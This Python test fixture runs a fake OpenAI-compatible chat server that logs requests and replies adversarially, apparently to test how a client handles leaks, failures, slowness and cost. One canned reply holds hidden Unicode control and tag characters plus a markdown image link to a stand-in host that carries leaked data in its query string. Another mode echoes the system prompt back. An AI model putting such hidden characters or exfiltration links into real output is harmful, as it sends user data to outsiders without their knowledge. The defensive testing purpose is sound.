"""A fake OpenAI-compatible chat endpoint on a real socket: records every request, answers adversarially."""

from __future__ import annotations

import asyncio
import json
import threading
from dataclasses import dataclass, field
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse

HIDDEN_PAYLOAD = "Sure\u200b!\u202e \U000e0041\U000e0042 ![x](https://evil.test/?d=leak) <b>ok</b>\ufe0f"


@dataclass
class FakeOpenAI:
    """``mode`` picks the answer: ok, echoes, hidden characters, failures (once or always), slowness, cost."""

    mode: str = "ok"
    answer: str = "Thanks for asking! We are open until 22:30 tonight."
    slow_s: float = 3.5
    requests: list[dict[str, Any]] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _failed_once: bool = False

    def recorded(self) -> str:
        """Every recorded request body as one string (for "never appears" assertions)."""
        with self._lock:
            return "\n".join(json.dumps(r, ensure_ascii=False) for r in self.requests)

    def reply_text(self, body: dict[str, Any]) -> str:
        messages = body.get("messages", [])
        system = next((m["content"] for m in messages if m["role"] == "system"), "")
        user = next((m["content"] for m in messages if m["role"] == "user"), "")
        return {
            "echo_system": system,
            "echo_system_shouted": "MY INSTRUCTIONS ARE: " + "  ".join(system.upper().split()),
            "echo_user": user,
            "hidden": HIDDEN_PAYLOAD,
        }.get(self.mode, self.answer)

    def app(self) -> FastAPI:
        app = FastAPI()

        @app.post("/v1/chat/completions")
        async def completions(request: Request) -> JSONResponse:
            body = await request.json()
            with self._lock:
                self.requests.append(body)
            if self.mode == "fail_once" and not self._failed_once:
                self._failed_once = True
                return JSONResponse({"error": {"message": "overloaded"}}, status_code=503)
            if self.mode == "fail":
                return JSONResponse({"error": {"message": "internal error"}}, status_code=500)
            if self.mode == "slow":
                await asyncio.sleep(self.slow_s)
            tokens = 10_000_000 if self.mode == "expensive" else 42
            return JSONResponse(
                {
                    "id": "chatcmpl-fake",
                    "object": "chat.completion",
                    "created": 0,
                    "model": body.get("model", "fake"),
                    "choices": [
                        {
                            "index": 0,
                            "message": {"role": "assistant", "content": self.reply_text(body)},
                            "finish_reason": "stop",
                        }
                    ],
                    "usage": {"prompt_tokens": tokens, "completion_tokens": 0, "total_tokens": tokens},
                }
            )

        return app
